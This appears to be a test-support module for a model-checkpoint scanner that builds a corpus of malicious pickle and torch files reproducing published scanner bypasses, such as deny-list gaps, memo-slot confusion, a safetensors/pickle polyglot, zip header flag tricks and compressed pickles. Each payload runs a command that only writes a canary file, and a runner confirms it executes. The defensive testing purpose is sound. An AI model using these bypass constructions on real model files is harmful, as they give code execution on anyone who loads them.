"""The public pickle-scanner bypasses of 2025–26, as files: generated offline, each with a canary.

``build_bypasses(directory)`` writes every case into ``directory``. A payload that ever ran would
create the case's canary file there; ``detonate`` runs the case's control (plain ``pickle.loads`` of
its payload, or ``torch.load(weights_only=False)`` of the file) in a throwaway subprocess and says
whether the canary appeared, so a corpus of duds would show. A :class:`Bypass` lists the globals
``scan`` must name unsafe and the finding kinds it must report; ``refusal`` is what every other verb
must say instead of reading it (None: refused by name, or the payload read as inert data).
"""

from __future__ import annotations

import bz2
import gzip
import io
import json
import lzma
import marshal
import os
import pickle
import shutil
import struct
import subprocess
import sys
import zipfile
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import torch

from tests.adversarial import (as_weight, benign_zip_members, call, canaries, glob, legacy_pickles, proto, u,
                               with_data_pkl)

#: a module the dunder-class case's payload imports from the corpus directory (sys.path holds it in the control)
BOOM_MODULE = "ckptfix_bypass_boom"
#: what non-scan verbs say of a compressed file
COMPRESSED = "compressed, not a checkpoint"
_MARKER = "__ckptfix_bypass_marker__"


@dataclass
class Bypass:
    """One file and what must happen to it."""

    name: str
    path: Path
    canary: Path
    payload: bytes | None  # what plain pickle.loads runs (None: the control is torch.load of the file)
    unsafe: list[str]  # globals scan must class unsafe
    kinds: list[str] = field(default_factory=list)  # finding kinds scan must report (beyond unsafe-global)
    refusal: str | None = None  # what the other verbs' one error line says (None: refused by name or read inert)
    live: bool = True  # the control runs the payload (False: a benign file, read as torch reads it)
    control: str = "pickle"  # how the control runs it: pickle.loads of ``payload``, or torch.load of the file


def pickled_with(fragment: bytes, where: str) -> bytes:
    """A torch.save data.pkl of ``{"state_dict": {"weight": tensor}, "hparams": fragment}`` (``where="hparams"``:
    beside the state dict, where ckptfix reads an unknown global as an inert placeholder) or of ``{"weight": fragment}``."""
    if where == "weight":
        return as_weight(fragment)
    buf = io.BytesIO()
    torch.save({"state_dict": {"weight": torch.arange(4.0)}, "hparams": _MARKER}, buf)
    with zipfile.ZipFile(io.BytesIO(buf.getvalue())) as z:
        data = z.read("archive/data.pkl")
    marker = b"X" + struct.pack("<I", len(_MARKER)) + _MARKER.encode()
    assert data.count(marker) == 1
    return data.replace(marker, fragment)


def zip_with(data_pkl: bytes, where: str) -> list[tuple[str, bytes, int]]:
    """The members of a torch.save zip around ``data_pkl`` (its storage ``0`` holding four floats)."""
    if where == "weight":
        return with_data_pkl(data_pkl)
    buf = io.BytesIO()
    torch.save({"weight": torch.arange(4.0)}, buf)
    with zipfile.ZipFile(io.BytesIO(buf.getvalue())) as z:
        return [(i.filename, data_pkl if i.filename == "archive/data.pkl" else z.read(i), 0) for i in z.infolist()]


def memo_confusion(command: str) -> bytes:
    """STACK_GLOBAL fed from a memo where BINPUT and MEMOIZE share slots: MEMOIZE stores at ``len(memo)``,
    so after ``BINPUT 1`` it overwrites slot 1. A scanner that counts MEMOIZE separately reads slot 1 as
    ``collections`` and slot 2 as ``OrderedDict``; pickle reads ``posix`` and ``system``."""
    body = (proto(4) + u("collections") + b"q\x01" + b"0" + u("posix") + b"\x94" + b"0"  # memo {1: posix}
            + u("OrderedDict") + b"q\x02" + b"0" + u("system") + b"\x94" + b"0"  # memo {1: posix, 2: system}
            + b"}" + u("weight") + b"h\x01h\x02\x93" + u(command) + b"\x85R" + b"s.")
    return body


def polyglot(command: str) -> bytes:
    """A file that safetensors' ``load_file`` reads (two tensors) and that ``pickle.loads`` (so also
    torch.load's legacy path, before its magic-number check) runs: the header length's first byte is
    BINBYTES, whose length skips into a metadata string; there SHORT_BINBYTES hops (``C`` + a length + that
    many bytes) run past the end of the header and into a uint8 tensor's bytes: ``posix.system(command)``."""
    tail = glob("posix", "system") + b"(" + b"V" + command.encode() + b"\ntR."
    skip = 256  # BINBYTES' length (header length bytes 1..4): the pickle resumes at 5 + skip, in the header
    size = 0x42 | skip << 8  # 'B', then the skip: the JSON header's length
    weight = torch.arange(4.0).numpy().tobytes()
    data = weight + tail
    head = {"weight": {"dtype": "F32", "shape": [4], "data_offsets": [0, len(weight)]},
            "code": {"dtype": "U8", "shape": [len(tail)], "data_offsets": [len(weight), len(data)]}}
    text = json.dumps(head, separators=(",", ":"))[:-1] + ',"__metadata__":{"x":"'
    resume = 5 + skip - 8  # where the pickle resumes, counted from the header's first byte
    assert len(text) <= resume
    text += "y" * (resume - len(text))
    last = 64  # the last hop's length: it skips the string's end, the header's padding and the float tensor
    gap = size + len(weight) - (last + 2) - resume
    hops = []
    while gap > 200:
        hops.append(126)
        gap -= 128
    half = gap // 2 - 2
    half += half in (34, 92)  # a length byte may not be a quote or a backslash inside a JSON string
    hops += [half, gap - half - 4]
    assert all(32 <= n <= 126 and n not in (34, 92) for n in hops)
    text += "".join("C" + chr(n) + "x" * n for n in hops) + "C" + chr(last) + '"}}'
    header = text.encode().ljust(size)
    assert len(header) == size and resume + sum(n + 2 for n in hops) + last + 2 == size + len(weight)
    return struct.pack("<Q", size) + header + data


def flagged_zip(data: bytes, name: str, local_bits: int) -> bytes:
    """A zip whose ``name`` member's local header (only) has ``local_bits`` set in its flags."""
    out = bytearray(data)
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        off = z.getinfo(name).header_offset
    flags = struct.unpack("<H", out[off + 6 : off + 8])[0] | local_bits
    out[off + 6 : off + 8] = struct.pack("<H", flags)
    return bytes(out)


def binbytes(data: bytes) -> bytes:
    """BINBYTES."""
    return b"B" + struct.pack("<I", len(data)) + data


def zip_bytes(members: list) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        for name, data, *method in members:
            z.writestr(zipfile.ZipInfo(name), data, compress_type=method[0] if method else zipfile.ZIP_STORED)
    return buf.getvalue()


class _Reduce:
    """Pickles as ``fn(*args)``."""

    def __init__(self, fn: Any, *args: Any):
        self.fn, self.args = fn, args

    def __reduce__(self) -> tuple:
        return self.fn, self.args


def build_bypasses(directory: Path) -> list[Bypass]:
    """Write every case into ``directory`` (created) and return them."""
    directory.mkdir(parents=True, exist_ok=True)
    cases: list[Bypass] = []
    canary, shell, py = canaries(directory)

    def add(name: str, container: bytes, payload: bytes | None, unsafe: list[str], kinds: list[str] | None = None,
            refusal: str | None = None, live: bool = True, ext: str = ".pt", control: str = "pickle") -> None:
        path = directory / f"{name}{ext}"
        path.write_bytes(container)
        cases.append(Bypass(name, path, canary(name), payload, unsafe, list(kinds or []), refusal, live, control))

    # Calls that pickle scanners' deny-lists missed, each in the state dict and beside it.
    fragments: dict[str, tuple[Any, list[str], list[str]]] = {
        # GHSA-vvpj-8cmc-gx39: pkgutil.resolve_name('os:system') then a call of what it returns
        "pkgutil-resolve-name": (lambda n: call(call(glob("pkgutil", "resolve_name"), u("os:system")), u(shell(n))),
                                 ["pkgutil.resolve_name"], ["unsafe-construct"]),
        "importlib-attrgetter": (lambda n: call(call(call(glob("operator", "attrgetter"), u("system")),
                                                     call(glob("importlib", "import_module"), u("os"))), u(shell(n))),
                                 ["importlib.import_module", "operator.attrgetter"], ["unsafe-construct"]),
        # through an allowed class: attrgetter('__init__.__globals__')(Namespace)['_os'].system
        "attrgetter-allowed-class": (lambda n: call(call(call(glob("operator", "attrgetter"), u("system")), call(
            call(glob("operator", "itemgetter"), u("_os")),
            call(call(glob("operator", "attrgetter"), u("__init__.__globals__")), glob("argparse", "Namespace")))),
            u(shell(n))), ["operator.attrgetter", "operator.itemgetter"], ["unsafe-construct"]),
        "collect-env-run": (lambda n: call(glob("torch.utils.collect_env", "run"), u(shell(n))),
                            ["torch.utils.collect_env.run"], []),
        "spawnv-passfds": (lambda n: call(glob("multiprocessing.util", "spawnv_passfds"),
                                          binbytes((shutil.which("touch") or "/usr/bin/touch").encode()),
                                          b"](" + binbytes(b"touch") + binbytes(str(canary(n)).encode()) + b"e", b")"),
                           ["multiprocessing.util.spawnv_passfds"], []),
        # GHSA-xp4f-hrf8-rxw7: runs `python -c "...runpy.run_module('pip')"` with sys.path from the pickle
        "ensurepip-run-pip": (lambda n: call(glob("ensurepip", "_run_pip"), b"]",
                                             b"]" + u(str(directory / f"fakepip-{n}")) + b"a"),
                              ["ensurepip._run_pip"], []),
        # CVE-2025-1716: pip.main with arguments from the pickle (here: --log writes the canary)
        "pip-main": (lambda n: call(glob("pip", "main"), b"](" + u("config") + u("list") + u("--log")
                                    + u(str(canary(n))) + u("--isolated") + b"e"), ["pip.main"], []),
        "runpy-run-code": (lambda n: call(glob("runpy", "_run_code"), u(py(n)), b"}"), ["runpy._run_code"], []),
        "nested-pickle-loads": (lambda n: call(glob("pickle", "loads"), binbytes(inner(n))),
                                ["pickle.loads"], []),
        "nested-marshal-loads": (lambda n: call(call(glob("types", "FunctionType"), call(
            glob("marshal", "loads"), binbytes(code(n))), b"}")),
            ["marshal.loads", "types.FunctionType"], ["unsafe-construct"]),
        # BUILD on an allowed object: an instance attribute __setstate__, called by the next BUILD
        "build-sets-setstate": (lambda n: glob("argparse", "Namespace") + b")\x81" + b"}" + u("__setstate__")
                                + glob("posix", "system") + b"s" + b"b" + u(shell(n)) + b"b",
                                ["posix.system"], ["unsafe-construct"]),
        # a dunder key in the state: __class__ swapped to a class whose __setstate__ the next BUILD runs
        "build-dunder-class": (lambda n: glob("argparse", "Namespace") + b")\x81" + b"N}" + u("__class__")
                               + glob(BOOM_MODULE, "Boom") + b"s\x86" + b"b" + u(str(canary(n))) + b"b",
                               [f"{BOOM_MODULE}.Boom"], ["unsafe-construct"]),
    }

    def inner(n: str) -> bytes:
        return pickle.dumps(_Reduce(os.system, shell(n)), protocol=2)

    def code(n: str) -> bytes:
        return marshal.dumps(compile(py(n), "<payload>", "exec"))

    for label, (make, unsafe, kinds) in fragments.items():
        for where in ("weight", "hparams"):
            n = f"{label}-{where}"
            body = pickled_with(make(n), where)
            add(n, zip_bytes(zip_with(body, where)), body, unsafe, kinds,
                control="torch" if where == "hparams" else "pickle")  # (a storage first: plain pickle can't)
    for n in [c.name for c in cases if c.name.startswith("ensurepip")]:
        fake = directory / f"fakepip-{n}" / "pip"
        fake.mkdir(parents=True)
        (fake / "__init__.py").write_text("")
        (fake / "__main__.py").write_text(py(n) + "\n")
    (directory / f"{BOOM_MODULE}.py").write_text(
        "class Boom:\n    def __setstate__(self, state):\n        open(state, 'w').close()\n")

    n = "memo-binput-memoize"
    body = memo_confusion(shell(n))
    add(n, zip_bytes(with_data_pkl(body)), body, ["posix.system"])

    n = "safetensors-pickle-polyglot"  # safetensors by its header, a pickle by its first byte
    data = polyglot(shell(n))
    add(n, data, data, ["posix.system"], ["polyglot"], refusal="ambiguous", ext=".safetensors")

    # Zip flag bits in a local header only (the central directory is what torch's miniz reads).
    system = f"{os.system.__module__}.system"
    for bits, label in ((0x08, "data-descriptor"), (0x800, "utf8"), (0x01, "encrypted"), (0x809, "all")):
        n = f"zip-local-flag-{label}"
        body = pickle.dumps({"weight": _Reduce(os.system, shell(n))}, protocol=2)
        add(n, flagged_zip(zip_bytes(with_data_pkl(body)), "archive/data.pkl", bits), body, [system], control="torch")
        n = f"zip-local-flag-{label}-benign"
        buf = io.BytesIO()
        torch.save({"weight": torch.arange(4.0)}, buf)
        add(n, flagged_zip(buf.getvalue(), "archive/data.pkl", bits), None, [], live=False)

    n = "zip-hidden-pickles-only"  # no data.pkl: the pickles sit under other names
    body = pickle.dumps({"weight": _Reduce(os.system, shell(n))}, protocol=2)
    members = [(m, d) for m, d in benign_zip_members() if not m.endswith("data.pkl")]
    add(n, zip_bytes([*members, ("archive/model.pkl", body), ("archive/data/1", body)]), body, [system],
        refusal="not a torch checkpoint")

    # Compressed pickles: scan looks inside, the other verbs refuse.
    for label, compress in (("gzip", gzip.compress), ("xz", lzma.compress), ("bz2", bz2.compress)):
        n = f"{label}-legacy-checkpoint"
        body = pickle.dumps({"weight": _Reduce(os.system, shell(n))}, protocol=2)
        add(n, compress(b"".join(legacy_pickles(body))), body, [system], refusal=COMPRESSED)
        n = f"{label}-plain-pickle"
        body = pickle.dumps(_Reduce(os.system, shell(n)), protocol=4)
        add(n, compress(body), body, [system], refusal=COMPRESSED)
    n = "gzip-torch-zip"
    body = pickle.dumps({"weight": _Reduce(os.system, shell(n))}, protocol=2)
    add(n, gzip.compress(zip_bytes(with_data_pkl(body))), body, [system], refusal=COMPRESSED)
    return cases


def case_names() -> list[str]:
    """The case names, for parametrizing at collection time."""
    import tempfile

    with tempfile.TemporaryDirectory() as d:
        return [c.name for c in build_bypasses(Path(d))]


_CONTROL = """
import pickle, sys
sys.path.insert(0, sys.argv[1])
path, how = sys.argv[2], sys.argv[3]
try:
    if how == "pickle":
        pickle.loads(open(path, "rb").read())
    else:
        import torch
        torch.load(path, weights_only=False)
except BaseException as e:
    print(type(e).__name__, e)
"""


def detonate(case: Bypass, directory: Path, timeout: float = 120) -> bool:
    """Run the case's control in a throwaway subprocess: ``pickle.loads`` of its payload, or
    ``torch.load(weights_only=False)`` of its file; True when the canary appeared."""
    target, how = case.path, case.control
    if how == "pickle":
        assert case.payload is not None
        target = directory / f".payload-{case.name}"
        target.write_bytes(case.payload)
    subprocess.run([sys.executable, "-c", _CONTROL, str(directory), str(target), how], capture_output=True,
                   timeout=timeout, env={**os.environ, "PIP_NO_INPUT": "1"}, cwd=directory)
    return case.canary.exists()

